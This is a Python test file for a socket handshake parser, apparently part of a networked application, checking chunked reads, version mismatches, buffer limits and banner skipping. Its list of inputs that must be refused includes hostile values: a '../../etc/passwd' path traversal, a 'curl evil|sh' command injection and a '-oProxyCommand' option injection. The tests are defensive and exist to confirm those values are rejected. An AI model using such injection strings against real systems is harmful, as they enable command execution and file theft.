"""The line with which both ends of a socket begin."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from net.local import door


def test_a_line_goes_through_whole_and_in_pieces() -> None:
    """However it was cut on the way, and whatever follows it at once."""
    data = door.line(want=door.JOIN, table="ann/one-hundred") + b"\x00\xff"
    for size in (1, 7, len(data)):
        reader = door.Reader()
        found, rest = None, b""
        for at in range(0, len(data), size):
            if found is None:
                found = reader.feed(data[at : at + size])
                rest = reader.rest
            else:
                rest += data[at : at + size]
        assert found is not None
        assert door.request(found) == (door.JOIN, "ann/one-hundred")
        assert rest == b"\x00\xff"


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"{}",
        b"[]",
        b"null",
        b"1",
        b"{" * 2000,
        b"[" * 4000,
        b'{"stammtisch":1}',
        b'{"stammtisch":1,"want":"shell"}',
        b'{"stammtisch":1,"want":["join"]}',
        b'{"stammtisch":1,"want":"join","table":7}',
        b'{"stammtisch":1,"want":"join","table":"a/b/c"}',
        b'{"stammtisch":1,"want":"join","table":"../../etc/passwd"}',
        b'{"stammtisch":1,"want":"join","table":"x;curl evil|sh"}',
        b'{"stammtisch":1,"want":"join","table":"-oProxyCommand=x"}',
        b'{"stammtisch":1,"want":"join","table":"ann\\n/x"}',
        b'{"stammtisch":1,"want":"join","table":"\xc3\xa9"}',
        b'{"stammtisch":true,"want":"join"}'[:-1],
    ],
)
def test_what_is_no_line_is_refused(data: bytes) -> None:
    """E1: nothing but a word of ours and a table's name goes any further."""
    with pytest.raises(door.DoorError, match=r"no_line|version"):
        door.request(data)


def test_another_version_is_told_apart() -> None:
    """So that a sentence can say who must upgrade."""
    for version in (0, 2, "1", None, [1]):
        with pytest.raises(door.DoorError, match="version"):
            door.read(json.dumps({"stammtisch": version}).encode())


def test_a_line_that_does_not_end_is_given_up() -> None:
    """Nobody makes the buffer grow."""
    reader = door.Reader()
    with pytest.raises(door.DoorError, match="no_line"):
        reader.feed(b"x" * 100_000)


def test_the_greeting_of_a_server_is_skipped_up_to_a_limit() -> None:
    """What a shell prints at login comes before our line."""
    answer = door.line(**{"is": "open"})
    reader = door.Reader(noise=1000)
    assert reader.feed(b"Welcome!\nYou have mail.\n" + answer + b"rest") == answer[:-1]
    assert reader.rest == b"rest"
    endless = door.Reader(noise=1000)
    with pytest.raises(door.DoorError, match="no_line"):
        endless.feed(b"Welcome!\n" * 1000)


@given(st.binary(max_size=300), st.integers(0, 100))
def test_no_bytes_crash_the_reader(data: bytes, noise: int) -> None:
    """Every answer is a line, or that there is none."""
    reader = door.Reader(noise=noise)
    try:
        found = reader.feed(data)
        if found is not None:
            door.request(found)
    except door.DoorError:
        pass
